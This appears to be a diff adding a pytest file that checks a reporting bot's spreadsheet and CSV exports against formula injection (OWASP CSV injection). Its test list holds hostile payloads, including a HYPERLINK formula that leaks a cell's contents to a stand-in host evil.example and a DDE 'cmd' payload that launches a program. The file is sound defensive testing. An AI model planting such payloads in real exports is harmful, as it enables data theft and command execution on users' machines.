@@ -1,0 +1,81 @@
+"""No export carries a live formula: hostile unit names, round titles, display names (OWASP CSV injection)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import openpyxl
+from sqlmodel import Session, select
+
+from bot.db import session_scope
+from bot.i18n import use_language
+from bot.models import Indicator, Round, Submission, SubmissionValue, Unit
+from bot.services import cells, export_xlsx
+from cli_runner import congdoan
+from rollup_world import sqlite_world, unit_id, world_template  # noqa: F401  (fixtures)
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
+           "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+def formulas(wb: openpyxl.Workbook) -> list[str]:
+    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb for row in ws.iter_rows() for c in row
+            if c.data_type == "f"]
+
+
+def texts(wb: openpyxl.Workbook) -> dict[str, openpyxl.cell.Cell]:
+    return {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+
+
+def test_helper_prefixes_only_risky_text():
+    assert cells.csv_row(["=1", "+1", "-1", "@x", "\tx", "\rx", "Tổ 1", -5, 3.5, None, ""]) == \
+        ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "Tổ 1", -5, 3.5, None, ""]
+
+
+def test_round_workbook_writes_hostile_names_as_text_and_numbers_as_numbers(sqlite_world):
+    with session_scope(sqlite_world) as s:
+        for code, name in zip(["A", "B", "C", "D", "U1", "U2"], HOSTILE):
+            s.exec(select(Unit).where(Unit.code == code)).one().name = name
+        rnd = s.exec(select(Round).where(Round.code == "R2")).one()
+        rnd.title = "=1+2 Đợt 2"
+        # a negative figure (e.g. a correction) must stay a number
+        new = s.exec(select(Indicator).where(Indicator.code == "NEW")).one()
+        sub = s.exec(select(Submission).where(Submission.round_id == rnd.id,
+                                              Submission.unit_id == unit_id(s, "D"))).one()
+        s.exec(select(SubmissionValue).where(SubmissionValue.submission_id == sub.id,
+                                             SubmissionValue.indicator_id == new.id)).one().value = -4
+    with Session(sqlite_world) as s, use_language("vi"):
+        rnd = s.exec(select(Round).where(Round.code == "R2")).one()
+        data = export_xlsx.build_workbook(s, rnd, unit_id(s, "PROV"))
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    assert formulas(wb) == []
+    found = texts(wb)
+    for name in HOSTILE:
+        name = name.replace("\r", "\n")  # XML reads a carriage return back as a line feed
+        assert name in found and found[name].data_type == "s" and found[name].quotePrefix, name
+    title = wb["Tổng hợp"]["A1"]
+    assert title.value.startswith("=1+2 Đợt 2") and title.data_type == "s" and title.quotePrefix
+    negative = [c for row in wb["NEW"].iter_rows(min_row=3) for c in row if c.value == -4]
+    assert negative and all(c.data_type == "n" and not c.quotePrefix for c in negative)
+
+
+def test_invites_csv_prefixes_hostile_unit_names(db_url, tmp_path):
+    assert congdoan(db_url, "demo").returncode == 0
+    from bot.db import make_engine
+
+    engine = make_engine(db_url)
+    with session_scope(engine) as s:
+        units = s.exec(select(Unit).where(Unit.level == "grassroots", Unit.active == True)  # noqa: E712
+                       .order_by(Unit.code).limit(len(HOSTILE))).all()
+        for unit, name in zip(units, HOSTILE):
+            unit.name = name
+    engine.dispose()
+    out = tmp_path / "invites.csv"
+    done = congdoan(db_url, "invite", "--all", "--out", str(out))
+    assert done.returncode == 0, done.stderr
+    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
+    names = {r["unit_name"] for r in rows}
+    for name in HOSTILE:
+        assert "'" + name in names and name not in names
+    assert not [r for r in rows if any(cells.is_risky(v) for v in r.values())]
